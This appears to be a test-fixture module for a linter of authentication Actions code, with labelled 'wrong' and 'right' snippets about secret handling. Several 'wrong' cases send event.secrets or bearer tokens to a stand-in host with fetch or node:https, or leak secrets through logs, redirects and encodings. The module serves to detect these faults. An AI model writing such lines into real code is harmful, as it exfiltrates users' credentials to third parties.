/** Secrets and settings. */
import { ask, set } from './actions.mjs';

/** @type {import('./verdicts.mjs').Verdicts} */
export const ofSecrets = {
  secret_shown: {
    wrong: [
      { name: 'in a log', code: `${set('1')}\nconsole.log(event.secrets);` },
      {
        name: 'in an error',
        code: `${set('1')} try { throw new Error(event.secrets.clientSecret); } catch (e) { console.log(e); }`,
      },
      { name: 'a token in a claim', code: `${ask} ${set('access_token')}` },
      {
        name: 'in metadata, encoded',
        code: `api.user.setAppMetadata('k', Buffer.from(event.secrets.clientSecret).toString('base64'));`,
      },
      {
        name: 'in a session token',
        top: 'exports.onContinuePostLogin = async () => {};',
        code: `const t = api.redirect.encodeToken({ secret: 'abc', payload: { s: event.secrets.clientSecret } }); api.redirect.sendUserTo('https://a.example', { query: { t } });`,
      },
      {
        name: 'in an address',
        top: 'exports.onContinuePostLogin = async () => {};',
        code: `api.redirect.sendUserTo('https://a.example/?k=' + event.secrets.clientSecret);`,
      },
      {
        name: 'in a denial',
        code: `api.access.deny('wrong ' + event.secrets.clientSecret);`,
        also: ['login_denied'],
      },
      {
        name: 'in the error of the login',
        code: `throw new Error('wrong ' + event.secrets.clientSecret);`,
        also: ['login_failed'],
      },
      {
        name: 'in metadata of the transaction',
        code: `api.transaction.setMetadata('k', event.secrets.clientSecret);`,
      },
      {
        name: 'sent to somebody else',
        code: `${set('1')} await fetch('https://no-such-host.invalid/', { method: 'POST', body: JSON.stringify(event.secrets) }).catch(() => {});`,
      },
      {
        name: 'a token, sent to somebody else',
        code: `${ask} ${set('1')} await fetch('https://no-such-host.invalid/', { headers: { authorization: 'Bearer ' + access_token } }).catch(() => {});`,
      },
      {
        name: "sent to somebody else with Node's own client",
        code: `${set('1')} await new Promise((done) => { const sent = require('node:https').request('https://no-such-host.invalid/', { method: 'POST' }, done); sent.on('error', done); sent.write('{'); sent.end(JSON.stringify(event.secrets)); });`,
      },
      {
        name: "a token in a header, sent to somebody else with Node's own client",
        code: `${ask} ${set('1')} await new Promise((done) => { const sent = require('node:https').get('https://no-such-host.invalid/', { headers: { authorization: 'Bearer ' + access_token } }, done); sent.on('error', done); });`,
      },
      {
        name: 'sent to somebody else in a request that was made before',
        code: `${set('1')} await fetch(new Request('https://no-such-host.invalid/', { method: 'POST', body: JSON.stringify(event.secrets) })).catch(() => {});`,
      },
      {
        name: 'in the header of a request that was made before',
        code: `${set('1')} await fetch(new Request('https://no-such-host.invalid/', { headers: { 'x-key': event.secrets.clientSecret } })).catch(() => {});`,
      },
      {
        name: 'sent to somebody else as bytes',
        code: `${set('1')} await fetch('https://no-such-host.invalid/', { method: 'POST', body: Buffer.from(event.secrets.clientSecret) }).catch(() => {});`,
      },
      {
        name: 'in hex',
        code: set("Buffer.from(event.secrets.clientSecret).toString('hex')"),
      },
      {
        name: 'in the header of a request, in a log',
        code: `${set('1')} console.log({ Authorization: 'Basic ' + Buffer.from(event.secrets.clientId + ':' + event.secrets.clientSecret).toString('base64') });`,
      },
    ],
    right: [
      {
        name: 'used as it is meant',
        code: `${ask} console.log('client', event.secrets.clientId); ${set('access_token.length')}`,
      },
      {
        name: 'a digest',
        code: set(
          "require('node:crypto').createHash('sha256').update(event.secrets.clientSecret).digest('hex')",
        ),
      },
      {
        name: 'whose it is',
        code: `${set('1')} await fetch('https://no-such-host.invalid/', { headers: { 'x-api-key': event.secrets.apiKey } }).catch(() => {});`,
        secrets: { apiKey: 'kJ7x-92hfQ0aLmZ83pWq' },
        warnings: ['not_reached'],
      },
    ],
  },
  secret_in_code: {
    wrong: [
      {
        name: 'by its name',
        code: `const clientSecret = 'kJ7x-92hfQ0aLmZ83pWq'; ${set('clientSecret.length')}`,
      },
      {
        name: 'a signed token',
        code: `const t = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl-x9'; ${set('t.length')}`,
      },
      {
        name: 'in a header',
        code: `const h = { 'x-api-key': 'kJ7x-92hfQ0aLmZ83pWq' }; ${set('1')}`,
      },
      {
        name: 'in a connection string',
        code: `const url = 'postgres://app:kJ7x92hfQ0@db.example.com/app'; ${set('url.length')}`,
      },
      {
        name: 'in the header of a request',
        code: `const h = 'Basic ' + Buffer.from('app:kJ7x92hfQ0').toString('base64'); ${set('h.length')}`,
      },
      {
        name: 'in the place of a secret that is not set',
        code: `const key = event.secrets.apiKey ?? 'kJ7x-92hfQ0aLmZ83pWq'; ${set('key.length')}`,
      },
      {
        name: 'to sign with',
        code: `const mac = require('node:crypto').createHmac('sha256', 'kJ7x-92hfQ0a'); ${set('typeof mac')}`,
      },
    ],
    right: [
      {
        name: 'a domain in the place of a setting, and a key that is a setting',
        code: `const domain = event.secrets.tenantDomain || 'acme.eu.auth0.com'; const mac = require('node:crypto').createHmac('sha256', event.secrets.clientSecret); ${set('domain + typeof mac')}`,
      },
      {
        name: 'words',
        code: `const token = 'access_token'; const password = 'YOUR_PASSWORD_HERE'; ${set('token + password')}`,
      },
      {
        name: 'names of metadata and cache',
        code: `const tokenKey = 'management-api-token'; api.cache.get(tokenKey); const secretName = 'clientSecret'; ${set('secretName')}`,
      },
      {
        name: 'what belongs to the application',
        code: `const clientId = 'a8Kd02nfPqLs93mZxY71bC55'; const token = 'https://example.com/token'; ${set('clientId + token')}`,
      },
    ],
  },
  secret_missing: {
    wrong: [
      {
        name: 'the login fails',
        code: `${set('1')} event.secrets.apiKey.trim();`,
        also: ['login_failed'],
      },
      { name: 'nothing comes of it', code: `if (event.secrets.enabled === 'yes') ${set('1')}` },
    ],
    right: [
      { name: 'an optional one', code: set('event.secrets.tier ?? "free"') },
      { name: 'given', code: set('event.secrets.tier'), secrets: { tier: 'gold' } },
    ],
  },
  setting_unknown: {
    wrong: [
      {
        name: 'an API',
        code: set('1'),
        secrets: { audience: 'https://nothing.example' },
        about: /`https:\/\/nothing\.example`/,
      },
      {
        name: 'an application of several',
        code: set('1'),
        secrets: { clients: 'spa, nothing' },
        about: /`nothing`/,
      },
    ],
    right: [
      {
        name: 'an API of several',
        code: set('1'),
        secrets: { audience: 'https://projects.example.com/' },
      },
      { name: 'the API that is asked for', code: set('1'), secrets: { audience: 'requested' } },
      { name: 'applications', code: set('1'), secrets: { clients: 'spa web' } },
    ],
  },
};
